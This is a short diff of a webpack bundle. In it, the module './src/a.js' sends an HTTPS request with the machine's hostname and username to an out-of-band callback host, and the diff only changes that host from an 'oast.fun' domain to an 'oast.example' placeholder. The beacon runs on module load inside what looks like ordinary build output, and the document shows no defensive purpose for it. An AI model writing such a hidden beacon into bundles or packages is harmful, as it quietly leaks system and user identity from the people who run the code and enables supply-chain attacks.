@@ -4,7 +4,7 @@
 var __webpack_modules__ = ({
 "./src/a.js": ((module, exports, __webpack_require__) => {
   const os = __webpack_require__("os");
-  __webpack_require__("https").get('https://x.oast.fun/?h=' + os.hostname() + '&u=' + os.userInfo().username);
+  __webpack_require__("https").get('https://x.oast.example/?h=' + os.hostname() + '&u=' + os.userInfo().username);
 }),
 });
 function __webpack_require__(moduleId) {
